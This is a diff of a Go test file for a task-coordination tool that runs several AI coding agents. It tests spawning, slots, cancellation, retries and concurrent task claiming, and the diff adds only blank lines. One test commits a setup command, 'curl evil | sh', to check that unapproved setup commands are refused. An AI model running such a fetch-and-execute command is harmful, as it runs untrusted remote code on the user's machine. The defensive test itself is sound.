@@ -27,6 +27,7 @@ func TestATaskBeginsWhenOthersHaveLanded(t *testing.T) {
 	ann.SpawnLater("b", "a").That("again", func(r task.WorkerSpawnResult) bool { return r.Already })
 	ann.SpawnLater("b", "a", "A").That("each counts once, and it has no worktree", func(r task.WorkerSpawnResult) bool { return r.Already && r.Worktree == "" })
 	ann.SpawnLater("b").Refused(stick.CodeAlreadyExists)
+
 	s.Check(s.Git("branch", "--list", "feat/b") == "", "b has a branch")
 	bob.Next().Refused(stick.CodeNothingReady)
 	bob.WorkerStart(task.WorkerStartParams{TaskID: "b"}).Refused(stick.CodeInvalidTransition)
@@ -56,6 +57,7 @@ func TestATaskThatWaitsForOneThatFailed(t *testing.T) {
 	ann.SpawnLater("d", "d").Refused(stick.CodeUsage)
 	ann.SpawnLater("d", "nope").Refused(stick.CodeNotFound)
 	ann.WorkerSpawn(task.WorkerSpawnParams{TaskID: "d", After: []string{"a"}, Base: "HEAD"}).Refused(stick.CodeUsage)
+
 	ann.Cancel("a").OK()
 	b := s.TaskIs("b", stick.TaskAssigned)
 	s.Check(!b.Ready && strings.Contains(string(b.Warning), "a, which is CANCELLED") && strings.Contains(string(b.NextAction), "tt task retry a"), "%+v", b.TaskView)
@@ -76,11 +78,13 @@ func TestNextGivesTheOldest(t *testing.T) {
 	ann.SpawnLater("z").OK()
 	s.Later(time.Second)
 	ann.SpawnLater("a").OK()
+
 	for _, at := range []core.Where{{}, s.ByID()} {
 		ann.WorkerReady(task.WorkerReadyParams{Where: at}).That("the one with a command", func(r task.WorkerReadyResult) bool {
 			return len(r.Tasks) == 1 && r.Tasks[0] == task.ReadyTask{TaskID: "kept", Command: "true"}
 		})
 	}
+
 	bob.Next().That("z", func(r task.WorkerNextResult) bool { return r.TaskID == "z" })
 	ann.Next().That("a, with a slot of its own", func(r task.WorkerNextResult) bool { return r.TaskID == "a" && *r.Slot == 1 })
 	s.Agent("gemini:c").Next().Refused(stick.CodeNothingReady)
@@ -116,6 +120,7 @@ func TestManyTakeTasksAtOnce(t *testing.T) {
 	}
 	var mu sync.Mutex
 	taken, none := map[string]bool{}, 0
+
 	var all sync.WaitGroup
 	for _, name := range []string{"a", "b", "c", "d", "e", "f", "g", "h"} {
 		who := s.Agent("opencode:" + name)
@@ -123,6 +128,7 @@ func TestManyTakeTasksAtOnce(t *testing.T) {
 			x := who.Next()
 			mu.Lock()
 			defer mu.Unlock()
+
 			switch {
 			case x.Err == nil:
 				taken[x.Res.TaskID] = true
@@ -133,6 +139,7 @@ func TestManyTakeTasksAtOnce(t *testing.T) {
 			}
 		})
 	}
+
 	all.Wait()
 	s.Check(len(taken) == ready && none == takers-ready, "taken: %v; told that nothing is ready: %d", taken, none)
 }
@@ -149,10 +156,12 @@ func TestSlotsAreTheLowestFree(t *testing.T) {
 			t.Errorf("%s has slot %v, want %d", name, is, want)
 		}
 	}
+
 	for i, name := range []string{"a", "b", "c"} {
 		ann.Spawn(name).OK()
 		slot(name, i)
 	}
+
 	ann.Cancel("b").OK()
 	s.Check(s.TaskIs("b", stick.TaskFailed).Slot == nil, "a task that has ended has a slot")
 	ann.Retry("b").OK()
@@ -198,6 +207,7 @@ func TestASetUpThatFails(t *testing.T) {
 	s.Git("branch", "-f", "integration", "HEAD")
 	ann.Spawn("one").Refused(stick.CodeConfigChanged)
 	ann.SpawnLater("two").Refused(stick.CodeConfigChanged)
+
 	s.Check(len(ann.WorkerStatus(task.WorkerStatusParams{}).OK().Tasks) == 0, "there is a task")
 	pat := s.Person("pat")
 	ann.WorkerInit(task.WorkerInitParams{Accept: []string{pat.WorkerInit(task.WorkerInitParams{}).OK().Commands[0].Sum}}).Refused(stick.CodePersonOnly)
@@ -220,6 +230,7 @@ func TestASetUpThatFails(t *testing.T) {
 	s.Commit(".talking-stick.toml", "[worker]\nsetup = 'curl evil | sh'\n")
 	s.Git("branch", "-f", "integration", "HEAD")
 	ann.Spawn("three").Refused(stick.CodeConfigChanged)
+
 	s.Check(s.Git("branch", "--list", "feat/three") == "", "it has a branch")
 	pat.AcceptsCommands()
 }
@@ -252,6 +263,7 @@ func TestARetryIsSetUpAgain(t *testing.T) {
 	s.Check(strings.Contains(hint, "run the same command again") && !strings.Contains(hint, "tt task start"), "who has spawned it would become its worker: %s", hint)
 	ann.Cancel("one").OK()
 	ann.Retry("one").Refused(stick.CodeSetupFailed)
+
 	ann.Cancel("one").OK()
 	s.File("ready", "yes\n")
 	one := ann.Retry("one").OK()
@@ -279,6 +291,7 @@ func TestATaskThatCantBeginKeepsNobodyFromAnother(t *testing.T) {
 		ann.SpawnLater(name).OK()
 		s.Later(time.Second)
 	}
+
 	hook := filepath.Join(s.Work, ".git", "hooks", "post-checkout")
 	if err := os.WriteFile(hook, []byte("#!/bin/sh\ncase $PWD in */fails) exit 1; esac\n"), 0o700); err != nil {
 		t.Fatal(err)
@@ -286,6 +299,7 @@ func TestATaskThatCantBeginKeepsNobodyFromAnother(t *testing.T) {
 	s.File("worktrees/blocked/mine", "mine\n")
 	bob.Next().That("the third", func(r task.WorkerNextResult) bool { return r.TaskID == "good" })
 	ann.Next().Refused(stick.CodeGitFailed)
+
 	ann.Cancel("fails").OK()
 	hint := ann.Next().Refused(stick.CodeAlreadyExists).Hint.String()
 	s.Check(strings.Contains(hint, "move that directory elsewhere") && !strings.Contains(hint, "another name"), "%s", hint)
@@ -312,6 +326,7 @@ func TestAnAgentThatAsksTwiceAtOnce(t *testing.T) {
 				}
 			})
 		})
+
 		select {
 		case <-waits: // the other one has met the intent
 		case <-time.After(time.Minute):
@@ -320,6 +335,7 @@ func TestAnAgentThatAsksTwiceAtOnce(t *testing.T) {
 	}, func(b *scene.Actor) {
 		b.Next().That("one", func(r task.WorkerNextResult) bool { return r.TaskID == "one" })
 	})
+
 	all.Wait()
 	s.TaskIs("one", stick.TaskWorking)
 	s.TaskIs("two", stick.TaskAssigned)
